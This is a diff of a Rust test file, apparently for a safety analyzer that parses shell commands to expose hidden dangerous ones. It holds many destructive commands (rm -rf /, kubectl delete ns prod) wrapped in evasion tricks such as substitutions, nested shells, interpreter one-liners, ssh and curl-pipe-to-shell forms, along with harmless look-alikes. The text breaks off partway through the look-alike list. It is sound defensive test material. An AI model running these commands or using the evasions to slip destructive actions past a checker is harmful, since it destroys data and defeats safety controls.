@@ -38,30 +38,19 @@ const RM: &[&str] = &["rm", "-rf", "/"];
 const KDEL: &[&str] = &["kubectl", "delete", "ns", "prod"];
 
 /// Attacks: each hides a dangerous command; the analysis must show it (or be opaque).
+#[rustfmt::skip]
 const EVASIONS: &[Case] = &[
     // Lists, pipelines, compound commands.
     ("rm -rf /", &[RM], false),
-    (
-        "cd repo && cargo test 2>&1 | tail -5",
-        &[&["cd", "repo"], &["cargo", "test"], &["tail", "-5"]],
-        false,
-    ),
+    ("cd repo && cargo test 2>&1 | tail -5", &[&["cd", "repo"], &["cargo", "test"], &["tail", "-5"]], false),
     ("ls; rm -rf /", &[&["ls"], RM], false),
     ("true || rm -rf /", &[&["true"], RM], false),
     ("sleep 1 & rm -rf /", &[&["sleep", "1"], RM], false),
     ("ls\nrm -rf /", &[&["ls"], RM], false),
     ("(rm -rf /)", &[RM], false),
     ("{ rm -rf /; }", &[RM], false),
-    (
-        "if rm -rf /; then echo ok; fi",
-        &[RM, &["echo", "ok"]],
-        false,
-    ),
-    (
-        "if false; then :; elif true; then :; else rm -rf /; fi",
-        &[&["false"], &[":"], &["true"], &[":"], RM],
-        false,
-    ),
+    ("if rm -rf /; then echo ok; fi", &[RM, &["echo", "ok"]], false),
+    ("if false; then :; elif true; then :; else rm -rf /; fi", &[&["false"], &[":"], &["true"], &[":"], RM], false),
     ("while rm -rf /; do ls; done", &[RM, &["ls"]], false),
     ("until false; do rm -rf /; done", &[&["false"], RM], false),
     ("for f in a b; do rm -rf /; done", &[RM], false),
@@ -70,89 +59,42 @@ const EVASIONS: &[Case] = &[
     ("f() { rm -rf /; }; f", &[RM, &["f"]], false),
     ("function f { kubectl delete ns prod; }", &[KDEL], false),
     ("! rm -rf /", &[RM], false),
+    ("! ! rm -rf /", &[RM], false),
     ("time rm -rf /", &[RM], false),
     ("time -p rm -rf /", &[RM], false),
     ("ls \\\n && rm -rf /", &[&["ls"], RM], false),
     ("# a comment\nrm -rf / # trailing", &[RM], false),
-    (
-        "a && b && c && d && rm -rf /",
-        &[&["a"], &["b"], &["c"], &["d"], RM],
-        false,
-    ),
-    (
-        "ls | grep x | rm -rf /",
-        &[&["ls"], &["grep", "x"], RM],
-        false,
-    ),
+    ("a && b && c && d && rm -rf /", &[&["a"], &["b"], &["c"], &["d"], RM], false),
+    ("ls | grep x | rm -rf /", &[&["ls"], &["grep", "x"], RM], false),
     ("ls |& rm -rf /", &[&["ls"], RM], false),
     // Substitutions anywhere.
     ("echo $(rm -rf /)", &[RM, &["echo", "$(rm -rf /)"]], false),
     ("echo `rm -rf /`", &[RM, &["echo", "`rm -rf /`"]], false),
-    (
-        "echo \"$(rm -rf /)\"",
-        &[RM, &["echo", "$(rm -rf /)"]],
-        false,
-    ),
-    (
-        "echo \"a `rm -rf /` b\"",
-        &[RM, &["echo", "a `rm -rf /` b"]],
-        false,
-    ),
-    (
-        "diff <(rm -rf /) >(kubectl delete ns prod)",
-        &[
-            RM,
-            KDEL,
-            &["diff", "<(rm -rf /)", ">(kubectl delete ns prod)"],
-        ],
-        false,
-    ),
+    ("echo \"$(rm -rf /)\"", &[RM, &["echo", "$(rm -rf /)"]], false),
+    ("echo \"a `rm -rf /` b\"", &[RM, &["echo", "a `rm -rf /` b"]], false),
+    ("diff <(rm -rf /) >(kubectl delete ns prod)", &[RM, KDEL, &["diff", "<(rm -rf /)", ">(kubectl delete ns prod)"]], false),
     ("x=$(rm -rf /)", &[RM], false),
     ("x=`rm -rf /` ls", &[RM, &["ls"]], false),
-    (
-        "export A=$(kubectl delete ns prod)",
-        &[KDEL, &["export", "A=$(kubectl delete ns prod)"]],
-        false,
-    ),
-    (
-        "local b=`rm -rf /`",
-        &[RM, &["local", "b=`rm -rf /`"]],
-        false,
-    ),
-    (
-        "declare -x c=$(rm -rf /)",
-        &[RM, &["declare", "-x", "c=$(rm -rf /)"]],
-        false,
-    ),
+    ("export A=$(kubectl delete ns prod)", &[KDEL, &["export", "A=$(kubectl delete ns prod)"]], false),
+    ("local b=`rm -rf /`", &[RM, &["local", "b=`rm -rf /`"]], false),
+    ("declare -x c=$(rm -rf /)", &[RM, &["declare", "-x", "c=$(rm -rf /)"]], false),
     ("cat > f <<EOF\n$(rm -rf /)\nEOF", &[&["cat"], RM], false),
     ("cat <<EOF\n`rm -rf /`\nEOF", &[&["cat"], RM], false),
-    (
-        "echo ${x:-$(rm -rf /)}",
-        &[RM, &["echo", "${x:-$(rm -rf /)}"]],
-        false,
-    ),
-    (
-        "echo $(( $(rm -rf /) + 1 ))",
-        &[RM, &["echo", "$(( $(rm -rf /) + 1 ))"]],
-        false,
-    ),
+    ("echo ${x:-$(rm -rf /)}", &[RM, &["echo", "${x:-$(rm -rf /)}"]], false),
+    ("echo $(($(rm -rf /) + 1 ))", &[RM, &["echo", "$(($(rm -rf /) + 1 ))"]], false),
     ("[[ -n $(rm -rf /) ]]", &[RM], false),
     ("ls > \"$(rm -rf /)\"", &[RM, &["ls"]], false),
-    (
-        "echo $(echo $(echo $(rm -rf /)))",
-        &[
-            RM,
-            &["echo", "$(rm -rf /)"],
-            &["echo", "$(echo $(rm -rf /))"],
-            &["echo", "$(echo $(echo $(rm -rf /)))"],
-        ],
-        false,
-    ),
-    (
-        "cat <(sudo rm -rf /)",
-        &[RM, &["cat", "<(sudo rm -rf /)"]],
-        false,
-    ),
+    ("echo $(echo $(echo $(rm -rf /)))", &[RM, &["echo", "$(rm -rf /)"], &["echo", "$(echo $(rm -rf /))"], &["echo", "$(echo $(echo $(rm -rf /)))"]], false),
+    ("cat <(sudo rm -rf /)", &[RM, &["cat", "<(sudo rm -rf /)"]], false),
+    ("(( x = $(rm -rf /) ))", &[RM], false),
+    ("let x=$(rm -rf /)", &[RM, &["let", "x=$(rm -rf /)"]], false),
+    ("while read l; do echo \"$l\"; done < <(rm -rf /)", &[&["read", "l"], &["echo", "$l"], RM], false),
+    ("{ rm -rf /; } 2>&1 | tee log", &[RM, &["tee", "log"]], false),
+    ("case $(rm -rf /) in *) ;; esac", &[RM], false),
+    ("for x in \"$(rm -rf /)\"; do :; done", &[RM, &[":"]], false),
+    ("function f() ( rm -rf / )", &[RM], false),
+    ("echo \"${arr[$(rm -rf /)]}\"", &[RM, &["echo", "${arr[$(rm -rf /)]}"]], false),
+    ("test -n \"$(rm -rf /)\"", &[RM, &["test", "-n", "$(rm -rf /)"]], false),
     // Quoting and escapes.
     ("k'ube'ctl delete ns prod", &[KDEL], false),
     ("\\kubectl delete ns prod", &[KDEL], false),
@@ -167,11 +109,7 @@ const EVASIONS: &[Case] = &[
     ("kube\\\nctl delete ns prod", &[KDEL], false),
     ("$\"rm\" -rf /", &[RM], false),
     ("/usr/bin/rm -rf /", &[&["/usr/bin/rm", "-rf", "/"]], false),
-    (
-        "../../bin/rm -rf /",
-        &[&["../../bin/rm", "-rf", "/"]],
-        false,
-    ),
+    ("../../bin/rm -rf /", &[&["../../bin/rm", "-rf", "/"]], false),
     ("'/bin/rm' '-rf' '/'", &[&["/bin/rm", "-rf", "/"]], false),
     // Wrappers.
     ("sudo rm -rf /", &[RM], false),
@@ -198,11 +136,7 @@ const EVASIONS: &[Case] = &[
     ("ionice -c 3 rm -rf /", &[RM], false),
     ("nohup rm -rf / &", &[RM], false),
     ("timeout -s KILL 5 rm -rf /", &[RM], false),
-    (
-        "timeout --kill-after=1 5s kubectl delete ns prod",
-        &[KDEL],
-        false,
-    ),
+    ("timeout --kill-after=1 5s kubectl delete ns prod", &[KDEL], false),
     ("stdbuf -o0 rm -rf /", &[RM], false),
     ("stdbuf -o L rm -rf /", &[RM], false),
     ("setsid -f rm -rf /", &[RM], false),
@@ -221,68 +155,18 @@ const EVASIONS: &[Case] = &[
     ("toybox rm -rf /", &[RM], false),
     ("/bin/busybox sh -c 'rm -rf /'", &[RM], false),
     ("ls | xargs rm", &[&["ls"], &["rm", "<stdin>"]], false),
-    (
-        "ls | xargs -I{} rm -rf {}",
-        &[&["ls"], &["rm", "-rf", "{}"]],
-        false,
-    ),
-    (
-        "ls | xargs -0 -n1 -P 4 rm -rf",
-        &[&["ls"], &["rm", "-rf", "<stdin>"]],
-        false,
-    ),
-    (
-        "ls | xargs --max-args=1 kubectl delete ns",
-        &[&["ls"], &["kubectl", "delete", "ns", "<stdin>"]],
-        false,
-    ),
-    (
-        "ls | xargs -L 1 sudo rm",
-        &[&["ls"], &["rm", "<stdin>"]],
-        false,
-    ),
-    (
-        "ls | xargs sh -c 'rm -rf \"$1\"' _",
-        &[&["ls"], &["rm", "-rf", "$1"]],
-        false,
-    ),
-    (
-        "parallel rm -rf ::: a b",
-        &[&["rm", "-rf", "<args>"]],
-        false,
-    ),
-    (
-        "parallel -j 4 'rm -rf {}' ::: a b",
-        &[&["rm", "-rf", "{}"]],
-        false,
-    ),
+    ("ls | xargs -I{} rm -rf {}", &[&["ls"], &["rm", "-rf", "{}"]], false),
+    ("ls | xargs -0 -n1 -P 4 rm -rf", &[&["ls"], &["rm", "-rf", "<stdin>"]], false),
+    ("ls | xargs --max-args=1 kubectl delete ns", &[&["ls"], &["kubectl", "delete", "ns", "<stdin>"]], false),
+    ("ls | xargs -L 1 sudo rm", &[&["ls"], &["rm", "<stdin>"]], false),
+    ("ls | xargs sh -c 'rm -rf \"$1\"' _", &[&["ls"], &["rm", "-rf", "$1"]], false),
+    ("parallel rm -rf ::: a b", &[&["rm", "-rf", "<args>"]], false),
+    ("parallel -j 4 'rm -rf {}' ::: a b", &[&["rm", "-rf", "{}"]], false),
     ("parallel ::: 'rm -rf /' ls", &[RM, &["ls"]], false),
-    (
-        "find . -name x -exec rm -rf {} \\;",
-        &[
-            &["find", ".", "-name", "x", "-exec", "rm", "-rf", "{}", ";"],
-            &["rm", "-rf", "{}"],
-        ],
-        false,
-    ),
-    (
-        "find . -execdir rm {} +",
-        &[&["find", ".", "-execdir", "rm", "{}", "+"], &["rm", "{}"]],
-        false,
-    ),
-    (
-        "find / -ok sudo rm {} ';'",
-        &[
-            &["find", "/", "-ok", "sudo", "rm", "{}", ";"],
-            &["rm", "{}"],
-        ],
-        false,
-    ),
-    (
-        "find . -exec sh -c 'rm -rf /' \\;",
-        &[&["find", ".", "-exec", "sh", "-c", "rm -rf /", ";"], RM],
-        false,
-    ),
+    ("find . -name x -exec rm -rf {} \\;", &[&["find", ".", "-name", "x", "-exec", "rm", "-rf", "{}", ";"], &["rm", "-rf", "{}"]], false),
+    ("find . -execdir rm {} +", &[&["find", ".", "-execdir", "rm", "{}", "+"], &["rm", "{}"]], false),
+    ("find / -ok sudo rm {} ';'", &[&["find", "/", "-ok", "sudo", "rm", "{}", ";"], &["rm", "{}"]], false),
+    ("find . -exec sh -c 'rm -rf /' \\;", &[&["find", ".", "-exec", "sh", "-c", "rm -rf /", ";"], RM], false),
     // Nested shells.
     ("bash -c 'rm -rf /'", &[RM], false),
     ("sh -c \"rm -rf /\"", &[RM], false),
@@ -300,16 +184,8 @@ const EVASIONS: &[Case] = &[
     ("/bin/bash -c 'rm -rf /'", &[RM], false),
     ("bash -c \"bash -c 'rm -rf /'\"", &[RM], false),
     ("sudo bash -c 'kubectl delete ns prod'", &[KDEL], false),
-    (
-        "bash -c 'echo $(rm -rf /)'",
-        &[RM, &["echo", "$(rm -rf /)"]],
-        false,
-    ),
-    (
-        "sudo env FOO=1 nice -n 5 timeout 10 bash -c 'rm -rf /'",
-        &[RM],
-        false,
-    ),
+    ("bash -c 'echo $(rm -rf /)'", &[RM, &["echo", "$(rm -rf /)"]], false),
+    ("sudo env FOO=1 nice -n 5 timeout 10 bash -c 'rm -rf /'", &[RM], false),
     ("nohup sh -c 'rm -rf /' >/dev/null 2>&1 &", &[RM], false),
     ("env bash -c 'rm -rf /'", &[RM], false),
     ("su -c 'rm -rf /'", &[RM], false),
@@ -327,108 +203,36 @@ const EVASIONS: &[Case] = &[
     ("nice -- rm -rf /", &[RM], false),
     ("env -i -- rm -rf /", &[RM], false),
     ("sudo -u root -- bash -c 'rm -rf /'", &[RM], false),
-    (
-        "timeout 5 sudo -u x env -i bash -lc \"kubectl delete ns prod\"",
-        &[KDEL],
-        false,
-    ),
-    (
-        "ls | xargs -a list.txt rm",
-        &[&["ls"], &["rm", "<stdin>"]],
-        false,
-    ),
+    ("timeout 5 sudo -u x env -i bash -lc \"kubectl delete ns prod\"", &[KDEL], false),
+    ("ls | xargs -a list.txt rm", &[&["ls"], &["rm", "<stdin>"]], false),
     ("cat <<< \"$(rm -rf /)\"", &[RM, &["cat"]], false),
     ("r$'\\x6d' -rf /", &[RM], false),
     ("select x in a; do rm -rf /; done", &[RM], false),
-    (
-        "echo $(( a[$(rm -rf /)] ))",
-        &[RM, &["echo", "$(( a[$(rm -rf /)] ))"]],
-        false,
-    ),
+    ("echo $((a[$(rm -rf /)] ))", &[RM, &["echo", "$((a[$(rm -rf /)] ))"]], false),
     ("cat <<-EOF\n\t$(rm -rf /)\n\tEOF", &[&["cat"], RM], false),
     ("exec > >(rm -rf /)", &[RM, &["exec"]], false),
-    (
-        "git commit -m \"$(rm -rf /)\"",
-        &[RM, &["git", "commit", "-m", "$(rm -rf /)"]],
-        false,
-    ),
-    (
-        "echo \"$(echo \"$(rm -rf /)\")\"",
-        &[
-            RM,
-            &["echo", "$(rm -rf /)"],
-            &["echo", "$(echo \"$(rm -rf /)\")"],
-        ],
-        false,
-    ),
-    (
-        "ssh -J bastion host -- rm -rf /",
-        &[
-            &["ssh", "-J", "bastion", "host", "--", "rm", "-rf", "/"],
-            RM,
-        ],
-        false,
-    ),
+    ("git commit -m \"$(rm -rf /)\"", &[RM, &["git", "commit", "-m", "$(rm -rf /)"]], false),
+    ("echo \"$(echo \"$(rm -rf /)\")\"", &[RM, &["echo", "$(rm -rf /)"], &["echo", "$(echo \"$(rm -rf /)\")"]], false),
+    ("ssh -J bastion host -- rm -rf /", &[&["ssh", "-J", "bastion", "host", "--", "rm", "-rf", "/"], RM], false),
+    ("echo x#; rm -rf /", &[&["echo", "x#"], RM], false),
+    ("sudo -g wheel -u root -- env -S \"bash -c 'rm -rf /'\"", &[RM], false),
+    ("ls | xargs -I % sh -c 'rm -rf %'", &[&["ls"], &["rm", "-rf", "%"]], true),
+    ("if ! rm -rf /; then :; fi", &[RM, &[":"]], false),
+    ("[ -f x ] && rm -rf /", &[RM], false),
+    ("exec -c -l rm -rf /", &[RM], false),
+    ("env 'rm' -rf /", &[RM], false),
+    ("bash -c \"$(cat <<'EOF'\nrm -rf /\nEOF\n)\"", &[&["cat"], &["cat"]], true),
     // Remote commands.
-    (
-        "ssh host rm -rf /",
-        &[&["ssh", "host", "rm", "-rf", "/"], RM],
-        false,
-    ),
-    (
-        "ssh -p 22 -i key user@host 'kubectl delete ns prod'",
-        &[
-            &[
-                "ssh",
-                "-p",
-                "22",
-                "-i",
-                "key",
-                "user@host",
-                "kubectl delete ns prod",
-            ],
-            KDEL,
-        ],
-        false,
-    ),
-    (
-        "ssh -o StrictHostKeyChecking=no host 'cd /; rm -rf *'",
-        &[
-            &[
-                "ssh",
-                "-o",
-                "StrictHostKeyChecking=no",
-                "host",
-                "cd /; rm -rf *",
-            ],
-            &["cd", "/"],
-            &["rm", "-rf", "*"],
-        ],
-        false,
-    ),
-    (
-        "ssh -tt host sudo rm -rf /",
-        &[&["ssh", "-tt", "host", "sudo", "rm", "-rf", "/"], RM],
-        false,
-    ),
+    ("ssh host rm -rf /", &[&["ssh", "host", "rm", "-rf", "/"], RM], false),
+    ("ssh -p 22 -i key user@host 'kubectl delete ns prod'", &[&["ssh", "-p", "22", "-i", "key", "user@host", "kubectl delete ns prod"], KDEL], false),
+    ("ssh -o StrictHostKeyChecking=no host 'cd /; rm -rf *'", &[&["ssh", "-o", "StrictHostKeyChecking=no", "host", "cd /; rm -rf *"], &["cd", "/"], &["rm", "-rf", "*"]], false),
+    ("ssh -tt host sudo rm -rf /", &[&["ssh", "-tt", "host", "sudo", "rm", "-rf", "/"], RM], false),
     // Code run later.
-    (
-        "trap 'rm -rf /' EXIT",
-        &[&["trap", "rm -rf /", "EXIT"], RM],
-        false,
-    ),
-    (
-        "alias ls='rm -rf /'",
-        &[&["alias", "ls=rm -rf /"], RM],
-        false,
-    ),
+    ("trap 'rm -rf /' EXIT", &[&["trap", "rm -rf /", "EXIT"], RM], false),
+    ("alias ls='rm -rf /'", &[&["alias", "ls=rm -rf /"], RM], false),
     // Opaque: command word unknown.
     ("$K delete ns prod", &[], true),
-    (
-        "$(which kubectl) delete ns prod",
-        &[&["which", "kubectl"]],
-        true,
-    ),
+    ("$(which kubectl) delete ns prod", &[&["which", "kubectl"]], true),
     ("\"${CMD}\" -rf /", &[], true),
     ("`echo rm` -rf /", &[&["echo", "rm"]], true),
     ("/bin/r? -rf /", &[], true),
@@ -436,58 +240,27 @@ const EVASIONS: &[Case] = &[
     ("sudo $CMD -rf /", &[], true),
     ("{r,}m -rf /", &[&["r,}m", "-rf", "/"]], true),
     ("rm${IFS}-rf${IFS}/", &[], true),
-    (
-        "python3 <(curl -s x)",
-        &[&["curl", "-s", "x"], &["python3", "<(curl -s x)"]],
-        true,
-    ),
+    ("python3 <(curl -s x)", &[&["curl", "-s", "x"], &["python3", "<(curl -s x)"]], true),
     ("bash <(curl -s x)", &[&["curl", "-s", "x"]], true),
     ("source <(curl -s x)", &[&["curl", "-s", "x"]], true),
-    (
-        "find . -exec sh -c 'rm -rf {}' \\;",
-        &[
-            &["find", ".", "-exec", "sh", "-c", "rm -rf {}", ";"],
-            &["rm", "-rf", "{}"],
-        ],
-        true,
-    ),
-    (
-        "awk 'BEGIN { \"date\" | getline d }'",
-        &[&["awk", "BEGIN { \"date\" | getline d }"], &["date"]],
-        true,
-    ),
-    (
-        "gawk 'BEGIN { print \"x\" |& \"cat\" }'",
-        &[
-            &["gawk", "BEGIN { print \"x\" |& \"cat\" }"],
-            &["x"],
-            &["cat"],
-        ],
-        true,
-    ),
-    (
-        "sed -e 's/a/b/;e rm -rf /' f",
-        &[&["sed", "-e", "s/a/b/;e rm -rf /", "f"]],
-        true,
-    ),
-    (
-        "node --eval=\"require('child_process').exec('rm -rf /')\"",
-        &[
-            &["node", "--eval=require('child_process').exec('rm -rf /')"],
-            &["child_process"],
-            RM,
-        ],
-        true,
-    ),
-    (
-        "pwsh -c 'Remove-Item -Recurse /'",
-        &[
-            &["pwsh", "-c", "Remove-Item -Recurse /"],
-            &["Remove-Item", "-Recurse", "/"],
-        ],
-        true,
-    ),
+    ("find . -exec sh -c 'rm -rf {}' \\;", &[&["find", ".", "-exec", "sh", "-c", "rm -rf {}", ";"], &["rm", "-rf", "{}"]], true),
+    ("awk 'BEGIN { \"date\" | getline d }'", &[&["awk", "BEGIN { \"date\" | getline d }"], &["date"]], true),
+    ("gawk 'BEGIN { print \"x\" |& \"cat\" }'", &[&["gawk", "BEGIN { print \"x\" |& \"cat\" }"], &["x"], &["cat"]], true),
+    ("sed -e 's/a/b/;e rm -rf /' f", &[&["sed", "-e", "s/a/b/;e rm -rf /", "f"]], true),
+    ("perl -lne 'system(\"rm -rf /\")' f", &[&["perl", "-lne", "system(\"rm -rf /\")", "f"], RM], true),
+    ("perl -0777 -ne 'print' f", &[&["perl", "-0777", "-ne", "print", "f"]], true),
+    ("ruby -lne 'system(\"rm -rf /\")'", &[&["ruby", "-lne", "system(\"rm -rf /\")"], RM], true),
+    ("node -pe \"require('child_process').execSync('rm -rf /')\"", &[&["node", "-pe", "require('child_process').execSync('rm -rf /')"], &["child_process"], RM], true),
+    ("pwsh -NoProfile -Comm 'rm -rf /'", &[&["pwsh", "-NoProfile", "-Comm", "rm -rf /"], RM], true),
+    ("python3 -I -W ignore -c 'print(1)'", &[&["python3", "-I", "-W", "ignore", "-c", "print(1)"]], true),
+    ("node --eval=\"require('child_process').exec('rm -rf /')\"", &[&["node", "--eval=require('child_process').exec('rm -rf /')"], &["child_process"], RM], true),
+    ("pwsh -c 'Remove-Item -Recurse /'", &[&["pwsh", "-c", "Remove-Item -Recurse /"], &["Remove-Item", "-Recurse", "/"]], true),
     ("echo 'rm -rf /' | su", &[&["echo", "rm -rf /"]], true),
+    ("sudo -i", &[], true),
+    ("sudo su", &[], true),
+    ("doas -s", &[], true),
+    ("exec bash", &[], true),
+    ("python3", &[&["python3"]], true),
     // Opaque: eval and files.
     ("eval \"rm -rf /\"", &[RM], true),
     ("eval $X", &[], true),
@@ -498,271 +271,86 @@ const EVASIONS: &[Case] = &[
     ("sudo sh ./install.sh", &[], true),
     ("bash -c \"$CMD\"", &[], true),
     // Opaque: a shell fed by a pipe, a here-document, a here-string, a file.
-    (
-        "curl -fsSL https://x.sh | sh",
-        &[&["curl", "-fsSL", "https://x.sh"]],
-        true,
-    ),
+    ("curl -fsSL https://x.sh | sh", &[&["curl", "-fsSL", "https://x.sh"]], true),
     ("curl x | sudo bash", &[&["curl", "x"]], true),
-    (
-        "wget -qO- x | bash -s -- --flag",
-        &[&["wget", "-qO-", "x"]],
-        true,
-    ),
+    ("wget -qO- x | bash -s -- --flag", &[&["wget", "-qO-", "x"]], true),
     ("bash <<EOF\nrm -rf /\nEOF", &[], true),
     ("cat <<EOF | sh\nrm -rf /\nEOF", &[&["cat"]], true),
     ("bash <<< \"rm -rf /\"", &[], true),
     ("sh < script.sh", &[], true),
-    (
-        "echo 'rm -rf /' | python3",
-        &[&["echo", "rm -rf /"], &["python3"]],
-        true,
-    ),
+    ("echo 'rm -rf /' | python3", &[&["echo", "rm -rf /"], &["python3"]], true),
     ("python3 - <<EOF\nimport os\nEOF", &[&["python3"]], true),
     // Opaque: interpreter inline code, with its literals analysed.
-    (
-        "python3 -c \"import os; os.system('rm -rf /')\"",
-        &[&["python3", "-c", "import os; os.system('rm -rf /')"], RM],
-        true,
-    ),
-    (
-        "python -c 'import subprocess; subprocess.run([\"kubectl\", \"delete\", \"ns\", \"prod\"])'",
-        &[
-            &[
-                "python",
-                "-c",
-                "import subprocess; subprocess.run([\"kubectl\", \"delete\", \"ns\", \"prod\"])",
-            ],
-            KDEL,
-        ],
-        true,
-    ),
-    (
-        "node -e \"require('child_process').execSync('rm -rf /')\"",
-        &[
-            &[
-                "node",
-                "-e",
-                "require('child_process').execSync('rm -rf /')",
-            ],
-            &["child_process"],
-            RM,
-        ],
-        true,
-    ),
-    (
-        "perl -e 'system(\"rm -rf /\")'",
-        &[&["perl", "-e", "system(\"rm -rf /\")"], RM],
-        true,
-    ),
-    (
-        "perl -Mstrict -we 'system(\"rm -rf /\")'",
-        &[&["perl", "-Mstrict", "-we", "system(\"rm -rf /\")"], RM],
-        true,
-    ),
-    (
-        "ruby -e '`rm -rf /`'",
-        &[&["ruby", "-e", "`rm -rf /`"], RM],
-        true,
-    ),
-    (
-        "php -r 'system(\"rm -rf /\");'",
-        &[&["php", "-r", "system(\"rm -rf /\");"], RM],
-        true,
-    ),
-    (
-        "lua -e 'os.execute(\"rm -rf /\")'",
-        &[&["lua", "-e", "os.execute(\"rm -rf /\")"], RM],
-        true,
-    ),
-    (
-        "osascript -e 'do shell script \"rm -rf /\"'",
-        &[&["osascript", "-e", "do shell script \"rm -rf /\""], RM],
-        true,
-    ),
-    (
-        "deno eval 'Deno.run({cmd: [\"rm\", \"-rf\", \"/\"]})'",
-        &[
-            &["deno", "eval", "Deno.run({cmd: [\"rm\", \"-rf\", \"/\"]})"],
-            RM,
-        ],
-        true,
-    ),
-    (
-        "awk 'BEGIN { system(\"rm -rf /\") }'",
-        &[&["awk", "BEGIN { system(\"rm -rf /\") }"], RM],
-        true,
-    ),
-    (
-        "awk '{ print | \"sh\" }' f",
-        &[&["awk", "{ print | \"sh\" }", "f"]],
-        true,
-    ),
-    (
-        "sed 's/x/rm -rf \\//e' f",
-        &[&["sed", "s/x/rm -rf \\//e", "f"]],
-        true,
-    ),
+    ("python3 -c \"import os; os.system('rm -rf /')\"", &[&["python3", "-c", "import os; os.system('rm -rf /')"], RM], true),
+    ("python -c 'import subprocess; subprocess.run([\"kubectl\", \"delete\", \"ns\", \"prod\"])'", &[&["python", "-c", "import subprocess; subprocess.run([\"kubectl\", \"delete\", \"ns\", \"prod\"])"], KDEL], true),
+    ("node -e \"require('child_process').execSync('rm -rf /')\"", &[&["node", "-e", "require('child_process').execSync('rm -rf /')"], &["child_process"], RM], true),
+    ("perl -e 'system(\"rm -rf /\")'", &[&["perl", "-e", "system(\"rm -rf /\")"], RM], true),
+    ("perl -Mstrict -we 'system(\"rm -rf /\")'", &[&["perl", "-Mstrict", "-we", "system(\"rm -rf /\")"], RM], true),
+    ("ruby -e '`rm -rf /`'", &[&["ruby", "-e", "`rm -rf /`"], RM], true),
+    ("php -r 'system(\"rm -rf /\");'", &[&["php", "-r", "system(\"rm -rf /\");"], RM], true),
+    ("lua -e 'os.execute(\"rm -rf /\")'", &[&["lua", "-e", "os.execute(\"rm -rf /\")"], RM], true),
+    ("osascript -e 'do shell script \"rm -rf /\"'", &[&["osascript", "-e", "do shell script \"rm -rf /\""], RM], true),
+    ("deno eval 'Deno.run({cmd: [\"rm\", \"-rf\", \"/\"]})'", &[&["deno", "eval", "Deno.run({cmd: [\"rm\", \"-rf\", \"/\"]})"], RM], true),
+    ("awk 'BEGIN { system(\"rm -rf /\") }'", &[&["awk", "BEGIN { system(\"rm -rf /\") }"], RM], true),
+    ("awk '{ print | \"sh\" }' f", &[&["awk", "{ print | \"sh\" }", "f"]], true),
+    ("sed 's/x/rm -rf \\//e' f", &[&["sed", "s/x/rm -rf \\//e", "f"]], true),
     ("sed -n '1e id' f", &[&["sed", "-n", "1e id", "f"]], true),
-    (
-        "sed -f prog.sed f",
-        &[&["sed", "-f", "prog.sed", "f"]],
-        true,
-    ),
+    ("sed -f prog.sed f", &[&["sed", "-f", "prog.sed", "f"]], true),
     // Opaque: does not parse.
     ("if then fi (", &[&["then", "fi"]], true),
     ("echo $(rm -rf / ", &[RM, &["echo", "$(rm -rf /"]], true),
 ];
 
 /// Look-alikes: dangerous text that is only data. Exact commands, none of them dangerous.
+#[rustfmt::skip]
 const HARMLESS: &[Case] = &[
     ("echo \"rm -rf /\"", &[&["echo", "rm -rf /"]], false),
-    (
-        "git commit -m \"kubectl delete ns prod\"",
-        &[&["git", "commit", "-m", "kubectl delete ns prod"]],
-        false,
-    ),
-    (
-        "grep 'rm -rf' notes.md",
-        &[&["grep", "rm -rf", "notes.md"]],
-        false,
-    ),
-    (
-        "printf '%s\\n' \"rm -rf /\"",
-        &[&["printf", "%s\\n", "rm -rf /"]],
-        false,
-    ),
+    ("git commit -m \"kubectl delete ns prod\"", &[&["git", "commit", "-m", "kubectl delete ns prod"]], false),
+    ("grep 'rm -rf' notes.md", &[&["grep", "rm -rf", "notes.md"]], false),
+    ("printf '%s\\n' \"rm -rf /\"", &[&["printf", "%s\\n", "rm -rf /"]], false),
     ("# rm -rf /", &[], false),
-    (
-        "cat <<'EOF'\nrm -rf /\n$(rm -rf /)\nEOF",
-        &[&["cat"]],
-        false,
-    ),
+    ("cat <<'EOF'\nrm -rf /\n$(rm -rf /)\nEOF", &[&["cat"]], false),
     ("cat <<\"EOF\"\n`rm -rf /`\nEOF", &[&["cat"]], false),
     ("cat <<EOF\nrm -rf /\nEOF", &[&["cat"]], false),
-    (
-        "echo 'sudo rm -rf /' >> notes.txt",
-        &[&["echo", "sudo rm -rf /"]],
-        false,
-    ),
+    ("echo 'sudo rm -rf /' >> notes.txt", &[&["echo", "sudo rm -rf /"]], false),
     ("ls -la # && rm -rf /", &[&["ls", "-la"]], false),
     ("echo \"\\$(rm -rf /)\"", &[&["echo", "$(rm -rf /)"]], false),
     ("echo '$(rm -rf /)'", &[&["echo", "$(rm -rf /)"]], false),
-    (
-        "echo \\`rm -rf /\\`",
-        &[&["echo", "`rm", "-rf", "/`"]],
-        false,
-    ),
-    (
-        "git log --grep=\"rm -rf\"",
-        &[&["git", "log", "--grep=rm -rf"]],
-        false,
-    ),
-    (
-        "grep -r \"kubectl delete\" .",
-        &[&["grep", "-r", "kubectl delete", "."]],
-        false,
-    ),
-    (
-        "python3 script.py --help",
-        &[&["python3", "script.py", "--help"]],
-        false,
-    ),
-    (
-        "python3 -m pytest -k 'rm -rf'",
-        &[&["python3", "-m", "pytest", "-k", "rm -rf"]],
-        false,
-    ),
-    (
-        "awk '{print $1}' file",
-        &[&["awk", "{print $1}", "file"]],
-        false,
-    ),
-    (
-        "awk -F, '$1 == \"a\" || $2 == \"b\" {print}' f",
-        &[&["awk", "-F,", "$1 == \"a\" || $2 == \"b\" {print}", "f"]],
-        false,
-    ),
-    (
-        "sed -n 's/foo/bar/gp' file",
-        &[&["sed", "-n", "s/foo/bar/gp", "file"]],
-        false,
-    ),
-    (
-        "sed -i.bak -e 's/a/b/' -e '/x/d' f",
-        &[&["sed", "-i.bak", "-e", "s/a/b/", "-e", "/x/d", "f"]],
-        false,
-    ),
-    (
-        "sed '/^#/d;s/x/y/;1,5p;$a end' f",
-        &[&["sed", "/^#/d;s/x/y/;1,5p;$a end", "f"]],
-        false,
-    ),
-    (
-        "find . -name '*.rs' -print",
-        &[&["find", ".", "-name", "*.rs", "-print"]],
-        false,
-    ),
-    (
-        "jq '.items[] | .name' x.json",
-        &[&["jq", ".items[] | .name", "x.json"]],
-        false,
-    ),
+    ("echo \\`rm -rf /\\`", &[&["echo", "`rm", "-rf", "/`"]], false),
+    ("git log --grep=\"rm -rf\"", &[&["git", "log", "--grep=rm -rf"]], false),
+    ("grep -r \"kubectl delete\" .", &[&["grep", "-r", "kubectl delete", "."]], false),
+    ("python3 script.py --help", &[&["python3", "script.py", "--help"]], false),
+    ("python3 -m pytest -k 'rm -rf'", &[&["python3", "-m", "pytest", "-k", "rm -rf"]], false),
